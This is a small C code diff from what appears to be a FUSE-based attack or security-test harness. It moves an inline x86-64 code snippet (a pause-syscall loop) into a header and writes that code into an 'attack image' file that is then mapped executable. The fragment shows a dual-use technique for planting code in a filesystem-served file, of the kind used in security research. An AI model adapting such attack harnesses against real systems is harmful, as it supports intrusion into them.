@@ -9,6 +9,7 @@
  * read FILE anyway.
  */
 #include "attack_fuse.h"
+#include "instructions.h"
 
 #include <libgen.h>
 
@@ -45,13 +46,12 @@ static int make_file(const char *name, ino_t inode)
 
 static void stand_in_copy(const char *name, ino_t inode)
 {
-	static const uint8_t code[] = { 0xb8, 0x22, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7 };
 	int fd = make_file(name, inode);
 	uint8_t *at;
 
 	attack_read_image();
 	if (write(fd, attack_image, attack_image_size) < 0x4000 ||
-	    pwrite(fd, code, sizeof(code), 0x2000) < 0)
+	    pwrite(fd, waiting_code, sizeof(waiting_code), 0x2000) < 0)
 		victim_cannot("write");
 	at = mmap(NULL, 0x4000, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
 	close(fd);
